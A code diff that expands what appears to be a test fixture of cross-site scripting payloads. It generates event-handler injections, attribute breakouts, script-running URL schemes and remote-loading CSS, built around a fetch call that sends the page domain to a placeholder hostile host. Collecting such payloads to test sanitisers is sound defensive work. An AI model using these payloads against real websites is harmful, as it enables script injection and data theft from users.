@@ -5,6 +5,10 @@ const call = `fetch('https://${HOSTILE_HOST}/'+document.domain),alert(1)`
 
 /** Ways to get a script run, a request sent, or the page rebuilt, from a string that is shown as text or as a link. */
 export const payloads: readonly string[] = [
+  ...inElements(),
+  ...inAttributes(),
+  ...inAddresses(),
+  ...inStyles(),
   // Elements
   `<script>${call}</script>`,
   `</title><script>${call}</script>`,
@@ -67,3 +71,98 @@ export const payloads: readonly string[] = [
   'constructor',
   '__proto__',
 ]
+
+/** Elements that run a handler, with and without being closed, cased and spaced as filters have missed them. */
+function inElements(): string[] {
+  const elements = [
+    ['audio src=x', 'onerror'],
+    ['body', 'onpageshow'],
+    ['button autofocus', 'onfocus'],
+    ['details open', 'ontoggle'],
+    ['div contenteditable', 'onbeforeinput'],
+    ['div', 'onpointerenter'],
+    ['dialog open', 'onclose'],
+    ['form', 'onsubmit'],
+    ['iframe', 'onload'],
+    ['img src=x', 'onerror'],
+    ['img srcset=x', 'onerror'],
+    ['input autofocus', 'onfocusin'],
+    ['link rel=icon href=x', 'onerror'],
+    ['marquee', 'onstart'],
+    ['meter', 'onmouseover'],
+    ['object data=x', 'onerror'],
+    ['select autofocus', 'onfocus'],
+    ['style', 'onload'],
+    ['svg', 'onload'],
+    ['textarea autofocus', 'onfocus'],
+    ['video poster=x', 'onloadstart'],
+    ['x tabindex=1', 'onfocus'],
+  ] as const
+  return elements.flatMap(([element, handler]) => [
+    `<${element} ${handler}="${call}">`,
+    `<${element.toUpperCase()} ${handler.toUpperCase()}=alert(1)//`,
+    `</p><${element}/${handler}=alert&lpar;1&rpar;>`,
+  ])
+}
+
+/** Out of a quoted, an unquoted and a commented place. */
+function inAttributes(): string[] {
+  const ends = [
+    '"',
+    "'",
+    '`',
+    '">',
+    "'>",
+    '--><',
+    ']]><',
+    '</title><',
+    '</style><',
+    '</svg><',
+    '</summary><',
+    '</dd></dl><',
+  ]
+  return ends.flatMap((end) => [
+    `${end} onclick="${call}" x=${end}`,
+    `${end}img src=x onerror=alert(1) x`,
+    `x${end}\u0000<script>${call}</script>`,
+  ])
+}
+
+/** Schemes that run or leave, and spellings that a parser forgives. */
+function inAddresses(): string[] {
+  const schemes = [
+    'javascript',
+    'vbscript',
+    'data',
+    'blob',
+    'filesystem',
+    'file',
+    'view-source',
+    'about',
+    'ws',
+    'intent',
+  ]
+  return schemes.flatMap((scheme) => [
+    `${scheme}:${call}`,
+    `${scheme.toUpperCase()}&colon;alert(1)`,
+    `\t${scheme}\n:alert(1)`,
+    `https://${HOSTILE_HOST}/\u202e${scheme}:alert(1)`,
+  ])
+}
+
+/** Rules and functions of style sheets that ask another host. */
+function inStyles(): string[] {
+  const address = `https://${HOSTILE_HOST}/style`
+  return [
+    `;background:url(${address})`,
+    `}*{background:url("${address}")}`,
+    `</style><style>*{background:url(${address})}`,
+    `@import "${address}";`,
+    `@font-face{font-family:x;src:url(${address})}`,
+    `#fff;--accent:url(${address})`,
+    `expression(alert(1))`,
+    `x:-moz-binding(url(${address}))`,
+    `image-set("${address}" 1x)`,
+    `attr(href url, ${address})`,
+  ]
+}
